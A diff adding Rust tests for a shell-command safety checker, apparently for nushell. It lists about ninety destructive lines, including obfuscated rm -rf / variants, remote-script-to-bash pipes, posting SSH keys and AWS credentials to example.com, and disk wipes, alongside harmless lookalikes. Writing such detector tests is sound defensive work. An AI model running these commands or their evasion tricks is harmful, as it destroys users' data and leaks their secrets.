@@ -1,0 +1,147 @@
+//! What lines of nushell would do.
+
+use crate::safety::{Risk, check};
+use crate::{Context, Dialect};
+
+#[track_caller]
+fn judge(line: &str) -> Risk {
+    check(line, &Context::new(Dialect::Nu)).risk
+}
+
+#[test]
+fn dangerous_lines_are_seen_through_what_nushell_makes_of_them() {
+    let mut missed = Vec::new();
+    for line in [
+        "rm -rf /",
+        "rm -rf ~",
+        "rm -r $env.HOME",
+        "rm -rf ($nu.home-path)",
+        "^rm -rf /",
+        "run-external rm '-rf' /",
+        "let x = '/'; rm -rf $x",
+        "let c = 'rm'; ^$c -rf /",
+        "^(\"r\" + \"m\") -rf /",
+        "^([r m] | str join) -rf /",
+        "^('mr' | str reverse) -rf /",
+        "^$\"r(char -u 6d)\" -rf /",
+        "^(char -i 114 109) -rf /",
+        "^('RM' | str downcase) -rf /",
+        "^('xrmx' | str substring 1..2) -rf /",
+        "^('r-m' | split row '-' | str join '') -rf /",
+        "^('cm0=' | decode base64 | decode utf-8) -rf /",
+        "^('726d' | decode hex | decode) -rf /",
+        "^({a: rm} | get a) -rf /",
+        "^([ls rm] | get 1) -rf /",
+        "^([ls rm] | last) -rf /",
+        "^([rm ls] | reverse | last) -rf /",
+        "rm -rf ([/usr /etc] | first)",
+        "for d in [/usr /etc] { rm -rf $d }",
+        "[/usr /etc] | each {|d| rm -rf $d }",
+        "['/' '/usr'] | par-each { rm -rf $in }",
+        "ls / | each {|f| rm -rf $f.name }",
+        "ls ~ | get name | each {|n| rm -r $n }",
+        "glob /* | each { rm -rf $in }",
+        "rm -rf ...(glob ~/*)",
+        "if true { rm -rf / }",
+        "try { rm -rf / } catch { ls }",
+        "do { rm -rf / }",
+        "match 1 { _ => { rm -rf / } }",
+        "loop { rm -rf /; break }",
+        "def f [d] { rm -rf $d }; f /",
+        "def f [...d] { rm -rf ...$d }; f / /usr",
+        "def f [--dir: string] { rm -rf $dir }; f --dir /",
+        "def ls [] { rm -rf ~ }",
+        "alias x = rm -rf; x /",
+        "alias x = ^rm -rf /; x",
+        "nu -c 'rm -rf /'",
+        "nu --commands 'rm -rf ~'",
+        "bash -c 'rm -rf /'",
+        "sudo rm -rf /usr",
+        "exec rm -rf /",
+        "'rm -rf /' | bash",
+        "http get https://example.com/x | bash",
+        "http get https://example.com/x | nu --stdin -c $in",
+        "bash -c (http get https://example.com/x)",
+        "http get https://example.com/x | save x.nu; source x.nu",
+        "open --raw ~/.ssh/id_rsa | http post https://example.com",
+        "http post https://example.com (open ~/.aws/credentials)",
+        "cd /; rm -rf *",
+        "$env.config.hooks.pre_prompt = {|| rm -rf ~ }",
+        "$env.config = ($env.config | upsert hooks {pre_prompt: [{|| rm -rf ~ }]})",
+        "$env.PROMPT_COMMAND = {|| rm -rf ~ }",
+        "{cmd: 'rm -rf /'} | get cmd | bash -c $in",
+        "'{\"c\": \"rm -rf /\"}' | from json | get c | bash -c $in",
+        "let f = {|d| rm -rf $d }; do $f /",
+        "'' | save -f /dev/sda",
+        "'x' | save -f /etc/passwd",
+        "echo x o> /dev/sda",
+        "ps | each {|p| kill -f $p.pid }",
+        "[r m] | reduce {|it, acc| $acc + $it } | do { ^$in -rf / }",
+        "with-env {X: '/'} { rm -rf $env.X }",
+        "$env.X = '/'; rm -rf $env.X",
+        "'rm -rf ~' | save -a $nu.config-path",
+        "if (ls | length) > 3 { ^rm -rf ~/work }",
+        "print $'done (rm -rf ~/work)'",
+        "let t = (if $env.X == '1' { '/' } else { '/tmp/x' }); rm -rf $t",
+        "dd if=/dev/zero of=/dev/sda",
+        "git push --force origin main",
+        "open db.sqlite | query db 'drop table users'",
+        "job spawn { rm -rf ~ }",
+        "rm -rf ($nu.home-path | path join '..')",
+        "rm -rf ('~' | path expand)",
+        "r#'rm -rf /'# | sh",
+    ] {
+        if judge(line) < Risk::High {
+            missed.push(line);
+        }
+    }
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+#[test]
+fn their_harmless_twins_are_quiet() {
+    let mut flagged = Vec::new();
+    for line in [
+        "ls | where name =~ 'rm -rf /'",
+        "print 'rm -rf /'",
+        "print $\"text \\(rm -rf ~\\) stays text\"",
+        "'rm -rf /' | str length",
+        "let x = '/'; ls $x",
+        "ls ~ | get name | each {|n| print $n }",
+        "{rm: 1, dd: 2} | columns",
+        "def f [d] { print $d }; f /",
+        "alias ll = ls -l; ll",
+        "http get https://example.com/x.json | get name",
+        "open Cargo.toml | get package.version",
+        "ls | sort-by size | reverse | first 5",
+        "ps | where cpu > 50",
+        "$env.PATH = ($env.PATH | prepend ~/bin)",
+        "$env.config.show_banner = false",
+        "let x = 5; $x + 3",
+        "mkdir src tests",
+        "'hello' | save notes.txt",
+        "git status",
+        "ls | to json | save -f out.json",
+        "for i in 1..3 { print $i }",
+        "help commands | where name == rm",
+        "^rm --help",
+        "sys mem | get free",
+        "[1 2 3] | math sum",
+        "if (which git | is-empty) { print no } else { print yes }",
+    ] {
+        let report = check(line, &Context::new(Dialect::Nu));
+        if report.risk > Risk::Safe {
+            let rules: Vec<&str> = report.findings.iter().map(|finding| finding.rule).collect();
+            flagged.push((line, rules.join(",")));
+        }
+    }
+    assert_eq!(flagged, []);
+}
+
+#[test]
+fn a_handful_of_files_is_not_everything() {
+    assert_eq!(judge("rm target.txt"), Risk::Moderate);
+    assert_eq!(judge("rm -rf target"), Risk::Moderate);
+    assert_eq!(judge("glob *.tmp | each { rm $in }"), Risk::Moderate);
+    assert!(judge("ls | where size > 1gb | each {|f| rm $f.name }") >= Risk::Moderate);
+}
